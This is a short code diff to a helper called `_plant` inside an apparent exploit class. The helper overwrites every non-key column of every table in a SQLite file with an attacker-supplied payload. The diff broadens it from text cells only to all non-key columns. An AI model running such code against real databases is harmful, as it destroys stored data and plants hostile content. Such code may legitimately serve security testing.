@@ -54,9 +54,9 @@ class _Exploit:
 
 def _plant(file: Path, payload: bytes) -> None:
     with contextlib.closing(sqlite3.connect(file, timeout=5)) as db:
-        tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
-        for table in tables:
-            for _, column, *_ in db.execute(f'PRAGMA table_info("{table}")').fetchall():
-                with contextlib.suppress(sqlite3.Error):  # keys and numbers that refuse it
-                    db.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE typeof("{column}") = \'text\'', (payload,))  # noqa: S608
+        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
+            for _, column, _, _, _, is_key in db.execute(f'PRAGMA table_info("{table}")').fetchall():
+                if not is_key:
+                    with contextlib.suppress(sqlite3.Error):  # a column that takes no bytes
+                        db.execute(f'UPDATE "{table}" SET "{column}" = ?', (payload,))  # noqa: S608
         db.commit()
